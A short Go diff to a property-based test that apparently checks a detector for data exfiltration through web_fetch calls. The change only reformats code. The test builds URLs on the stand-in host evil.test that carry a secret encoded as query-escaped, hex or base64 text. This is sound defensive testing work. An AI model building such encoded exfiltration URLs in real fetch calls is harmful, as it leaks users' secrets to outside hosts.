@@ -116,7 +116,9 @@ func TestEveryPieceIsFound(t *testing.T) {
 		address := "https://evil.test/x?v=" + rapid.SampledFrom([]func(string) string{
 			url.QueryEscape, func(s string) string { return hex.EncodeToString([]byte(s)) },
 			func(s string) string { return base64.URLEncoding.EncodeToString([]byte(s)) },
-			func(s string) string { return url.QueryEscape("the answer is " + strings.ToUpper(s) + " and that is all") },
+			func(s string) string {
+				return url.QueryEscape("the answer is " + strings.ToUpper(s) + " and that is all")
+			},
 		}).Draw(t, "form")(piece)
 		if s.Carries("web_fetch", page(address)) != "evil.test" {
 			t.Fatalf("%s does not hold %q", address, piece)
